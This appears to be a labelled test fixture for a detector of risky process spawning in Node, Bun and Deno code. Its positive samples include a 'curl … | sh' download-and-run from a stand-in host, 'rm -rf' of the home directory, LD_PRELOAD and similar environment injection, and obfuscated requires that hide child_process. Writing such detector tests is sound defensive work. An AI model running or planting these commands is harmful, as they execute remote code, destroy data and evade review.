const ptyish = { spawn: (f) => f };
ptyish.spawn('bash');
//@ pos GCONV_PATH set in the program's own environment before git runs
const { execFileSync } = require('child_process');
process.env.GCONV_PATH = '/tmp/g';
execFileSync('git', ['log', '--encoding=X']);
//@ pos LD_PRELOAD assigned into process.env with Object.assign
const { spawnSync } = require('child_process');
Object.assign(process.env, { LD_PRELOAD: '/tmp/x.so' });
spawnSync('git', ['status']);
//@ neg git's prompt turned off in the program's own environment
const { spawnSync } = require('child_process');
process.env.GIT_TERMINAL_PROMPT = '0';
spawnSync('git', ['status']);
//@ neg PATH set in a program that starts nothing
process.env.PATH = '/usr/bin';
console.log(process.env.PATH);
//@ pos LD_PRELOAD set through a name for process.env
const { spawnSync } = require('child_process');
const env = process.env;
env.LD_PRELOAD = '/tmp/x.so';
spawnSync('git', ['status']);
//@ pos Bun.spawnSync of a shell
Bun.spawnSync(['sh', '-c', 'curl -fsSL https://x.example/i.sh | sh']);
//@ pos Bun.spawn of a command held in an options object
Bun.spawn({ cmd: ['python3', 'job.py'] });
//@ pos Bun.spawn of git with code in its arguments
Bun.spawn(['git', '-c', 'alias.x=!sh', 'x']);
//@ pos Bun.$ of a command outside the ordinary tools
await Bun.$`rm -rf ${process.env.HOME}`;
//@ pos new Deno.Command of bash
new Deno.Command('bash', { args: ['-c', 'id'] }).outputSync();
//@ pos OPENSSL_CONF handed to git (an engine the config names is loaded)
const { spawnSync } = require('child_process');
spawnSync('git', ['ls-remote', 'https://example.com/r.git'], { env: { ...process.env, OPENSSL_CONF: '/tmp/x.cnf' } });
//@ pos JAVA_TOOL_OPTIONS handed to a program
const { spawnSync } = require('child_process');
spawnSync('git', ['status'], { env: { ...process.env, JAVA_TOOL_OPTIONS: '-javaagent:/tmp/a.jar' } });
//@ neg GIT_TERMINAL_PROMPT switched off for git
const { spawnSync } = require('child_process');
spawnSync('git', ['ls-remote', 'https://example.com/r.git'], { env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });
//@ pos Deno.run whatever it runs
Deno.run({ cmd: ['git', 'status'] });
//@ neg Bun.spawnSync of git status
Bun.spawnSync(['git', 'status', '--short']);
//@ neg new Deno.Command of git log
new Deno.Command('git', { args: ['log', '--oneline'] }).outputSync();
//@ pos node --test in a mkdtemp directory
const fs = require('fs');
const os = require('os');
const { spawnSync } = require('child_process');
const dir = fs.mkdtempSync(os.tmpdir() + '/t-');
spawnSync('node', ['--test'], { cwd: dir });
//@ neg node --test in the project's test directory
const path = require('path');
const { spawnSync } = require('child_process');
spawnSync('node', ['--test'], { cwd: path.join(__dirname, 'test') });
//@ pos npx prettier with a plugin file outside the project
const { execFileSync } = require('child_process');
execFileSync('npx', ['prettier', '--plugin', '/tmp/pp.cjs', '--check', 'src']);
//@ pos npx jest with a setup file as a data: URL
const { execFileSync } = require('child_process');
execFileSync('npx', ['jest', '--setupFiles=data:text/javascript,process.exit(0)']);
//@ neg npx prettier with a plugin package, mocha requiring ts-node and a project file
const { spawnSync } = require('child_process');
spawnSync('npx', ['prettier', '--plugin', 'prettier-plugin-tailwindcss', '--write', 'src']);
spawnSync('npx', ['mocha', '--require', 'ts-node/register', '-r', './test/setup.js']);
//@ pos a download piped to bash added to a Set of commands
const { execSync } = require('child_process');
const queue = new Set(['echo start']);
queue.add('curl -fsSL https://x.example.net/i.sh | bash');
for (const step of queue) execSync(step);
//@ pos a module whose name's accents NFD and a combining-mark class strip
const m = require("chïld_pròcéss".normalize("NFD").replace(/[\u0300-\u036f]/g, ""));
m.execSync("curl -fsSL https://x.example/i.sh | sh");
//@ pos a module whose name a regex replace with $1_$2 puts together
const m = require("child-process".replace(/^([a-z]+)-([a-z]+)$/, "$1_$2"));
m.execSync("curl -fsSL https://x.example/i.sh | sh");
